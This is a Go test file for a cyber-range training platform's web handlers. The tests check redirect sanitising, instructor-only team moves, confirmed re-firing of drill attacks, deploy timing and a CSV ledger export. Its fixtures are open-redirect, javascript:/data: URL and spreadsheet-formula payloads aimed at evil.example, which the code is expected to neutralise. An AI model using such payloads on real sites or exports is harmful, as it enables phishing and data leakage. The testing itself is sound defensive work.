package web

import (
	"context"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/cordillera-range/cordillera/scoreboard"
)

// Issue 13, "Trust": redirects, team membership, CSV exports, firing and
// deploying by state, networks open to the internet.

// hostileNext are redirect targets that leave the site in some browser, or
// after some proxy decodes them once: each must become "/".
var hostileNext = []string{
	"//evil.example",
	"///evil.example",
	"/\\evil.example",
	"\\\\evil.example",
	"\\/evil.example",
	"/\t/evil.example",
	"\t//evil.example",
	"/\r\n/evil.example",
	"/\n/evil.example",
	"/\r/evil.example",
	" //evil.example",
	"/ /evil.example",
	"/\x00/evil.example",
	"/\x7f/evil.example",
	"/\u3000/evil.example",
	"/%09/evil.example",
	"/%0d%0a/evil.example",
	"/%2F/evil.example",
	"/%2f/evil.example",
	"/%5C/evil.example",
	"/%5cevil.example",
	"/%252F/evil.example",
	"/%25%32%46/evil.example",
	"/%/evil.example",
	"%2F%2Fevil.example",
	"https://evil.example/",
	"http:evil.example",
	"http:/evil.example",
	"HTTPS://evil.example",
	"javascript:alert(1)",
	"data:text/html,<script>alert(1)</script>",
	"evil.example",
	"@evil.example",
	"",
}

// localNext are this site's own paths: kept as they are.
var localNext = []string{"/scoreboard/ex", "/team/ex/cl1", "/instruct/ex?ok=fire#timeline", "/manager/ex/export/ledger.csv", "/account", "/"}

func TestSafeNext(t *testing.T) {
	for _, next := range hostileNext {
		if got := safeNext(next); got != "/" {
			t.Errorf("safeNext(%q) = %q, want /", next, got)
		}
	}
	for _, next := range localNext {
		if got := safeNext(next); got != next {
			t.Errorf("safeNext(%q) = %q, want it kept", next, got)
		}
	}
}

// TestRedirectTargetsStayLocal asks every handler that takes a redirect
// target (the language switch, signed in or not, and sign-in, by its form
// and by the query the sign-in page carries into it) with each hostile value.
func TestRedirectTargetsStayLocal(t *testing.T) {
	f := newFixture(t, func(c *Config) { c.LoginLimit, c.SubmitLimit = 1<<20, 1<<20 })
	visitor := f.client()
	vtoken := visitor.csrf("/")
	ana := f.signedIn("ana")
	atoken := ana.csrf("/")
	cases := map[string][]string{}
	for _, next := range hostileNext {
		cases[next] = []string{"/", "/team"} // the language switch's, sign-in's
	}
	for _, next := range localNext {
		cases[next] = []string{next, next}
	}
	cases["/"] = []string{"/", "/team"} // sign-in's "/" is the user's home
	for next, want := range cases {
		for _, tc := range []struct {
			who   string
			c     *client
			token string
		}{{"visitor", visitor, vtoken}, {"ana", ana, atoken}} {
			res := tc.c.post("/lang", url.Values{"csrf": {tc.token}, "lang": {"en"}, "next": {next}})
			if res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != want[0] {
				t.Errorf("POST /lang as %s, next %q: %d to %q, want 303 to %q", tc.who, next, res.StatusCode, res.Header.Get("Location"), want[0])
			}
		}

		// The sign-in page carries next= into its form, cleaned.
		page := f.client()
		res := page.get("/login?next=" + url.QueryEscape(next))
		field := `name="next" value="` + strings.ReplaceAll(want[0], "&", "&amp;") + `"`
		if want[0] != "/" {
			field = `name="next" value="` // html/template escapes the rest its own way
		}
		if res.StatusCode != http.StatusOK || !strings.Contains(res.body, field) || strings.Contains(res.body, "evil.example") {
			t.Errorf("GET /login?next=%q: %d, the form's next is not %q:\n%s", next, res.StatusCode, want[0], res.body)
		}
		token := csrfInput.FindStringSubmatch(res.body)[1]
		res = page.post("/login", url.Values{"csrf": {token}, "name": {"ana"}, "password": {password}, "next": {next}})
		if res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != want[1] {
			t.Errorf("POST /login, next %q: %d to %q, want 303 to %q", next, res.StatusCode, res.Header.Get("Location"), want[1])
		}
	}
	// A page that needs a session sends a visitor to sign in with a next
	// that sign-in keeps.
	res := f.client().get("/account")
	if loc := res.Header.Get("Location"); loc != "/login?next=%2Faccount" {
		t.Errorf("a visitor on /account is sent to %q", loc)
	}
}

// TestJoinOnceThenInstructorMoves: a trainee in a team is refused another
// team's code, in both languages, and keeps their team's pages only; an
// instructor moves them, with a reason, and the move is kept and shown.
func TestJoinOnceThenInstructorMoves(t *testing.T) {
	f, _ := instructFixture(t)
	ctx := context.Background()
	codes := map[string]string{}
	teams, _ := f.store.Teams(ctx, "ex")
	for _, t := range teams {
		codes[t.ID] = t.JoinCode
	}
	ana := f.signedIn("ana") // team cl1
	token := ana.csrf("/team/ex/cl1")
	res := ana.post("/join", url.Values{"csrf": {token}, "code": {codes["co1"]}})
	expect(t, res, http.StatusConflict, "You are already in team cl1 of exercise ex", "Ask an instructor to move you.")
	if strings.Contains(res.body, `action="/join"`) {
		t.Errorf("the refusal offers the join form again")
	}
	ana.lang = "es"
	expect(t, ana.post("/join", url.Values{"csrf": {token}, "code": {codes["co1"]}}), http.StatusConflict,
		"Ya estás en el equipo cl1 del ejercicio ex", "Pide a un instructor que te mueva.")
	ana.lang = "en"
	if u, _ := f.store.Accounts().UserByName(ctx, "ana"); u.Team != "cl1" {
		t.Fatalf("a refused join moved ana to %q", u.Team)
	}
	expect(t, ana.get("/team/ex/co1"), http.StatusForbidden)
	expect(t, ana.get("/api/v1/exercises/ex/teams/co1/hosts"), http.StatusForbidden)
	// The join page says who moves trainees, and has no form for her.
	res = ana.get("/join")
	expect(t, res, http.StatusOK, "To change teams, ask an instructor")
	if strings.Contains(res.body, `action="/join"`) {
		t.Errorf("the join page offers a trainee in a team the join form")
	}
	// Her own team's code is no move: she stays.
	if res := ana.post("/join", url.Values{"csrf": {token}, "code": {codes["cl1"]}}); res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != "/team/ex/cl1" {
		t.Errorf("joining one's own team: %d to %q", res.StatusCode, res.Header.Get("Location"))
	}

	// An instructor moves her, with a reason.
	ines := f.signedIn("ines")
	itoken := ines.csrf("/instruct/ex")
	expect(t, ines.get("/instruct/ex"), http.StatusOK, `action="/instruct/ex/move"`, `<option value="ana"`, `<option value="tomas"`)
	expect(t, ines.post("/instruct/ex/move", url.Values{"csrf": {itoken}, "trainee": {"ana"}, "team": {"co1"}}), http.StatusUnprocessableEntity,
		"Give a reason: it is kept with the move.")
	expect(t, ines.post("/instruct/ex/move", url.Values{"csrf": {itoken}, "trainee": {"mara"}, "team": {"co1"}, "reason": {"r"}}), http.StatusUnprocessableEntity,
		"is not a trainee")
	expect(t, ines.post("/instruct/ex/move", url.Values{"csrf": {itoken}, "trainee": {"ana"}, "team": {"cl1"}, "reason": {"r"}}), http.StatusUnprocessableEntity,
		"ana is already there.")
	res = ines.post("/instruct/ex/move", url.Values{"csrf": {itoken}, "trainee": {"ana"}, "team": {"co1"}, "reason": {"colCERT is one short"}})
	if res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != "/instruct/ex?ok=move#trainees" {
		t.Fatalf("move: %d to %q\n%s", res.StatusCode, res.Header.Get("Location"), res.body)
	}
	if u, _ := f.store.Accounts().UserByName(ctx, "ana"); u.Team != "co1" {
		t.Fatalf("after the move ana is in %q, want co1", u.Team)
	}
	expect(t, ana.get("/team/ex/co1"), http.StatusOK, "colCERT")
	expect(t, ana.get("/team/ex/cl1"), http.StatusForbidden)
	expect(t, ines.get("/instruct/ex?ok=move"), http.StatusOK, "Trainee moved.", "ines moved ana:", "colCERT is one short")

	// The API moves too, and lists every move with who, whom, when and why.
	api := f.apiToken("ines")
	expect(t, ines.api(http.MethodPost, "/api/v1/instruct/exercises/ex/move", api, map[string]any{"trainee": "tomas", "team": "cl1"}),
		http.StatusUnprocessableEntity, `"field":"reason"`)
	expect(t, ines.api(http.MethodPost, "/api/v1/instruct/exercises/ex/move", api, map[string]any{"trainee": "tomas", "team": "zz", "reason": "r"}),
		http.StatusUnprocessableEntity, `"field":"team"`)
	expect(t, ines.api(http.MethodPost, "/api/v1/instruct/exercises/ex/move", api, map[string]any{"trainee": "nobody", "team": "cl1", "reason": "r"}),
		http.StatusUnprocessableEntity, `"field":"trainee"`)
	expect(t, ines.api(http.MethodPost, "/api/v1/instruct/exercises/ex/move", api, map[string]any{"trainee": "beto", "reason": "left the program"}),
		http.StatusOK, `"ok":true`, `"message":"trainee beto moved from team co1 of ex to no team"`)
	res = ines.api(http.MethodGet, "/api/v1/instruct/exercises/ex/trainees", api, nil)
	expect(t, res, http.StatusOK, `{"name":"ana","display_name":"","team":"co1"}`, `{"name":"beto","display_name":"","team":""}`,
		`"trainee":"beto","from_exercise":"ex","from_team":"co1","exercise":"","team":"","author":"ines","reason":"left the program","at":"`,
		`"trainee":"ana","from_exercise":"ex","from_team":"cl1","exercise":"ex","team":"co1","author":"ines","reason":"colCERT is one short","at":"`)
	if strings.Index(res.body, `"trainee":"beto"`) > strings.Index(res.body, `"trainee":"ana"`) {
		t.Errorf("moves are not newest first:\n%s", res.body)
	}
	// Trainees and managers may not move anyone, nor read the moves.
	for _, who := range []string{"ana", "mara"} {
		c := f.signedIn(who)
		expect(t, c.post("/instruct/ex/move", url.Values{"csrf": {c.csrf("/account")}, "trainee": {who}, "team": {"cl1"}, "reason": {"r"}}), http.StatusForbidden)
		expect(t, c.api(http.MethodGet, "/api/v1/instruct/exercises/ex/trainees", f.apiToken(who), nil), http.StatusForbidden)
	}
	if u, _ := f.store.Accounts().UserByName(ctx, "ana"); u.Team != "co1" {
		t.Errorf("a refused move moved ana to %q", u.Team)
	}
}

// TestRefireAsksForConfirmation: "Fire now" is offered only while attacks
// may run; once an attack ran against a team, firing it again is refused
// unless confirmed, by a form that needs no script or by the API's
// "confirm", and the re-fire is recorded as the instructor's act.
func TestRefireAsksForConfirmation(t *testing.T) {
	f, d := instructFixture(t)
	ctx := context.Background()
	c := f.signedIn("ines")
	createDrill(t, c)
	eng, _ := d.Engine("drill")
	token := c.csrf("/instruct/drill")
	const attack = "portal-password-spray"
	fireForm := `action="/instruct/drill/fire"`

	// Before the start nothing may be fired: nothing is offered.
	if res := c.get("/instruct/drill"); strings.Contains(res.body, fireForm) {
		t.Errorf("the page offers to fire an attack before the exercise starts")
	}
	if err := eng.Start(ctx, "ines", 1); err != nil {
		t.Fatal(err)
	}
	expect(t, c.get("/instruct/drill"), http.StatusOK, fireForm, "Fire now")
	fire := func(form url.Values) response {
		t.Helper()
		form.Set("csrf", token)
		return c.post("/instruct/drill/fire", form)
	}
	if res := fire(url.Values{"team": {"cl1"}, "attack": {attack}}); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("first fire: %d\n%s", res.StatusCode, res.body)
	}
	// cl1's cell offers a re-fire, which asks first; co1's still fires.
	expect(t, c.get("/instruct/drill"), http.StatusOK, "Fire again…", "Fire now")

	// Without confirmation: refused, and a confirmation step instead.
	res := fire(url.Values{"team": {"cl1"}, "attack": {attack}})
	expect(t, res, http.StatusConflict, "Attack portal-password-spray has already run against team cl1 (1×)",
		"Fire this attack again?", `name="confirm" value="yes" required`, `<input type="hidden" name="team" value="cl1">`,
		`<input type="hidden" name="attack" value="portal-password-spray">`)
	c.lang = "es"
	expect(t, fire(url.Values{"team": {"cl1"}, "attack": {attack}}), http.StatusConflict,
		"El ataque portal-password-spray ya se ejecutó contra el equipo cl1 (1×)", "¿Lanzar este ataque otra vez?")
	c.lang = "en"
	api := f.apiToken("ines")
	expect(t, c.api(http.MethodPost, "/api/v1/instruct/exercises/drill/fire", api, map[string]any{"team": "cl1", "attack": attack}),
		http.StatusConflict, `"field":"confirm"`, "has already run against team cl1")
	manual := func(team string) []scoreboard.Execution {
		t.Helper()
		execs, err := f.store.Executions(ctx, "drill")
		if err != nil {
			t.Fatal(err)
		}
		var out []scoreboard.Execution
		for _, x := range execs {
			if x.Team == team && x.Attack == attack && x.Trigger == scoreboard.TriggerManual {
				out = append(out, x)
			}
		}
		return out
	}
	if n := len(manual("cl1")); n != 1 {
		t.Fatalf("refused re-fires ran: %d manual executions, want 1", n)
	}

	// Confirmed, by the form and by the API: fired, as ines's act.
	if res := fire(url.Values{"team": {"cl1"}, "attack": {attack}, "confirm": {"yes"}}); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("confirmed re-fire: %d\n%s", res.StatusCode, res.body)
	}
	expect(t, c.api(http.MethodPost, "/api/v1/instruct/exercises/drill/fire", api, map[string]any{"team": "cl1", "attack": attack, "confirm": true}),
		http.StatusOK, `"ok":true`, "fired again against team cl1 (re-fire, confirmed; it had run 2×)")
	runs := manual("cl1")
	if len(runs) != 3 {
		t.Fatalf("%d manual executions of cl1, want 3", len(runs))
	}
	for _, x := range runs {
		if x.Author != "ines" {
			t.Errorf("execution %d's author = %q, want ines", x.ID, x.Author)
		}
	}
	events, err := f.store.LastEvents(ctx, "drill", 50)
	if err != nil {
		t.Fatal(err)
	}
	var refires []string
	for _, ev := range events {
		if strings.Contains(ev.Text, "fired again by ines (re-fire") {
			refires = append(refires, ev.Text)
		}
	}
	if len(refires) != 2 || !strings.Contains(refires[0], "it had run 1×") || !strings.Contains(refires[1], "it had run 2×") {
		t.Errorf("re-fire events = %q, want two naming ines and the runs before", refires)
	}

	// An attack the timeline ran counts as well.
	if _, err := f.store.AddExecution(ctx, scoreboard.Execution{Exercise: "drill", Team: "co1", Attack: attack, Trigger: scoreboard.TriggerTimeline,
		State: scoreboard.ExecDone, Outcome: scoreboard.OutcomeSucceeded, Due: time.Minute}); err != nil {
		t.Fatal(err)
	}
	expect(t, fire(url.Values{"team": {"co1"}, "attack": {attack}}), http.StatusConflict, "has already run against team co1 (1×)")
	if n := len(manual("co1")); n != 0 {
		t.Errorf("a refused re-fire of the timeline's attack ran (%d)", n)
	}

	// With the kill switch on nothing is offered.
	expect(t, c.post("/instruct/drill/halt", url.Values{"csrf": {token}, "reason": {"stop"}}), http.StatusSeeOther)
	if res := c.get("/instruct/drill"); strings.Contains(res.body, fireForm) {
		t.Errorf("the page offers to fire an attack while the kill switch is on")
	}
}

// TestDeployOnlyWhenTheStateAllows: deploying is offered, and done, before
// the start and while paused; never while the exercise runs or after it
// ended, by the page or the API.
func TestDeployOnlyWhenTheStateAllows(t *testing.T) {
	f, d := instructFixture(t)
	ctx := context.Background()
	c := f.signedIn("ines")
	createDrill(t, c)
	eng, _ := d.Engine("drill")
	token := c.csrf("/instruct/drill")
	api := f.apiToken("ines")
	deployForm := `action="/instruct/drill/deploy"`
	offered := func(want bool, when string) {
		t.Helper()
		if res := c.get("/instruct/drill"); strings.Contains(res.body, deployForm) != want {
			t.Errorf("%s: deploy offered %v, want %v", when, !want, want)
		}
	}
	// Allowed: the refusal is the missing container engine's.
	offered(true, "before the start")
	expect(t, c.post("/instruct/drill/deploy", url.Values{"csrf": {token}}), http.StatusServiceUnavailable, "docker not reachable")

	if err := eng.Start(ctx, "ines", 1); err != nil {
		t.Fatal(err)
	}
	offered(false, "while running")
	if res := c.get("/instruct/drill"); strings.Contains(res.body, `action="/instruct/drill/teardown"`) {
		t.Errorf("teardown offered while running")
	}
	expect(t, c.post("/instruct/drill/deploy", url.Values{"csrf": {token}}), http.StatusConflict, "The exercise is running: deploy before it starts, or while it is paused.")
	c.lang = "es"
	expect(t, c.post("/instruct/drill/deploy", url.Values{"csrf": {token}}), http.StatusConflict, "El ejercicio está en curso")
	c.lang = "en"
	expect(t, c.api(http.MethodPost, "/api/v1/instruct/exercises/drill/deploy", api, nil), http.StatusConflict, `"error":"The exercise is running`)

	expect(t, c.post("/instruct/drill/pause", url.Values{"csrf": {token}, "reason": {"lunch"}}), http.StatusSeeOther)
	offered(true, "while paused")
	expect(t, c.post("/instruct/drill/deploy", url.Values{"csrf": {token}}), http.StatusServiceUnavailable, "docker not reachable")

	if err := eng.End(ctx, "ines", "done"); err != nil {
		t.Fatal(err)
	}
	offered(false, "after the end")
	expect(t, c.post("/instruct/drill/deploy", url.Values{"csrf": {token}}), http.StatusConflict, "The exercise has ended")
	expect(t, c.api(http.MethodPost, "/api/v1/instruct/exercises/drill/deploy", api, nil), http.StatusConflict, `"error":"The exercise has ended`)
}

// TestInternetNetworkWarning: a network open to the internet is a visible
// warning on the instructor's page, in both languages.
func TestInternetNetworkWarning(t *testing.T) {
	f, d := instructFixture(t)
	c := f.signedIn("ines")
	createDrill(t, c)
	if res := c.get("/instruct/drill"); strings.Contains(res.body, "internet-warning") {
		t.Errorf("a sealed scenario is warned about")
	}
	// The bundled drill seals every network; open team co1's "ot".
	for _, p := range d.Plans("drill") {
		for i := range p.Networks {
			if p.Team.ID == "co1" && p.Networks[i].Name == "ot" {
				p.Networks[i].Internet = true
			}
		}
	}
	expect(t, c.get("/instruct/drill"), http.StatusOK, `role="alert" id="internet-warning"`, "Open to the internet:", "ot (internet = true in the scenario)")
	c.lang = "es"
	expect(t, c.get("/instruct/drill"), http.StatusOK, "Abierta a internet:", "ot (internet = true en el escenario)")
}

// TestCSVExportOverTheWeb: the manager's ledger download neutralises a
// reason written as a formula, and keeps points numbers.
func TestCSVExportOverTheWeb(t *testing.T) {
	f, _ := instructFixture(t)
	ines := f.signedIn("ines")
	evil := `=HYPERLINK("http://evil.example/?leak","clic")`
	expect(t, ines.post("/instruct/ex/adjust", url.Values{"csrf": {ines.csrf("/instruct/ex")}, "team": {"cl1"}, "points": {"-100"},
		"reason": {evil}, "key": {"k"}}), http.StatusSeeOther)
	res := f.signedIn("mara").get("/manager/ex/export/ledger.csv")
	expect(t, res, http.StatusOK, `,-100,-100,`, `"'=HYPERLINK(""http://evil.example/?leak"",""clic"")"`)
	if strings.Contains(res.body, `,"=HYPERLINK`) {
		t.Errorf("the ledger CSV has a formula:\n%s", res.body)
	}
}
